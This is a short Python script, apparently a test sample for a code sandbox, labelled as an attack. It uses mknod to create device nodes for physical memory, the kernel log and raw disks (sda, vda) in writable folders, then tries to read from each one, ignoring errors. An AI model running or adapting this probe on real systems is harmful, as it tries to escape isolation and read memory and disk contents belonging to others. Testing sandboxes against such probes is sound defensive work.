# Makes device nodes of its own: memory, disks.
# attacks: stdio call
import os, stat

for name, major, minor in (("mem", 1, 1), ("sda", 8, 0), ("vda", 254, 0), ("kmsg", 1, 11)):
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            os.mknod(f"{folder}/{name}", stat.S_IFBLK | 0o666 if name[1] != "m" else stat.S_IFCHR | 0o666, os.makedev(major, minor))
            print(open(f"{folder}/{name}", "rb").read(100))
        except OSError: pass
print(0)

def f(a, b): return 0
